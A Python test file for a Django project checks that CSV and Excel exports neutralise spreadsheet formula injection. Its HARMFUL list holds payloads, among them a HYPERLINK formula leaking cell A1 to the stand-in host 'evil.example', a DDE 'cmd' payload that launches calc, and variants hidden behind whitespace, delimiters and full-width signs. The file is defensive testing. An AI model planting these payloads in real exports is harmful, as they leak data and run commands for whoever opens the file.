"""No cell of a table that somebody takes away is ever worked out as a formula."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.conf import settings
from openpyxl import load_workbook

from kern.sheets import safe_cell, sheet_response

HARMFUL = [
    "=1+1",
    '=HYPERLINK("https://evil.example?"&A1;"Olena")',
    "=cmd|' /C calc'!A0",
    "+49 6251 1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    '";=1+1',
    "a;=1+1",
    "a\n=1+1",
    "\x00=1+1",
]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_what_looks_like_a_formula_is_read_back_as_text(kind: str) -> None:
    data = sheet_response(kind, name="x", heads=["=Kopf"], rows=[[value] for value in HARMFUL]).content
    if kind == "csv":
        table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
        read = [row[0] for row in table]
        assert all(len(row) == 1 for row in table)
    else:
        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
        cells = [row[0] for row in sheet.iter_rows()]
        assert {cell.data_type for cell in cells} == {"s"}
        read = [str(cell.value) for cell in cells]
    assert len(read) == len(HARMFUL) + 1
    assert not [value for value in read if value.lstrip().startswith(("=", "+", "-", "@", "＝"))]
    assert read[4] == "'+49 6251 1"


@pytest.mark.parametrize("value", ["Ayşe", "a-b", "", "3,5", "ana@example.org"])
def test_other_words_stay_as_they_are(value: str) -> None:
    assert safe_cell(value) == value


def test_nobody_else_writes_tables() -> None:
    """The empty list for imports holds our own words alone."""
    allowed = {"kern/sheets.py", "office/importing/template.py"}
    writers = {
        str(path.relative_to(settings.BASE_DIR))
        for app in settings.HOUSE_APPS
        for path in (settings.BASE_DIR / app).rglob("*.py")
        if re.search(r"csv\.(Dict)?[wW]riter|\bWorkbook\(|to_excel|text/csv", path.read_text())
    }
    assert writers - allowed == set()
